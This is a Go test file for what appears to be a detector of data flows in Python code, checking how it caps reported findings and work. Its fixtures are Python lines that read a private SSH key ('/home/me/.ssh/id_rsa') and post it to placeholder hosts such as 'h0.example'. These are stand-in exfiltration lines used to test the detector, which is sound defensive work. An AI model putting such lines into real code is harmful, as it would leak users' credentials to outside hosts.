package beside

import (
	"fmt"
	"strings"
	"testing"
)

// crowd is a program of n pairs of a store that is read and a host that it is sent to.
func crowd(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "k%d = open('/home/me/.ssh/id_rsa').read()\nrequests.post('https://h%d.example/', data=k%d)\n", i, i, i)
	}
	return b.String()
}

// TestBounds: what is beyond a bound is told, and what was found before stays.
func TestBounds(t *testing.T) {
	t.Parallel()
	var why []string
	cut := func(_, what string) { why = append(why, what) }
	if found := Find([]Text{text("a.py", crowd(maxTold/2))}, nil, cut); len(found) != maxTold/2 || len(why) != 0 {
		t.Errorf("%d are found, and %q is told", len(found), why)
	}
	if found := Find([]Text{text("a.py", crowd(maxTold+5))}, nil, cut); len(found) != maxTold || len(why) != 1 {
		t.Errorf("%d are found, and %q is told", len(found), why)
	}
}

// TestWork: where no work is left, it is told, and nothing counts as apart from what is sent.
func TestWork(t *testing.T) {
	t.Parallel()
	of := text("a.py", "k = open('/home/me/.ssh/id_rsa').read()\nn = 1\nrequests.post('https://x.example/', data=n)\n")
	for left, want := range map[int]string{maxWork: "key:1 x.example:3 body apart", 0: ""} {
		told := 0
		f := &finder{told: map[string]int{}, work: work{left: left}, cut: func(string, string) { told++ }}
		f.look(unite([]Text{of}, func(string, string) {}))
		if got := shownOf(f.found); got != want || (told > 0) != (left == 0) {
			t.Errorf("with work for %d: %q is found, and %d gaps are told", left, got, told)
		}
	}
}
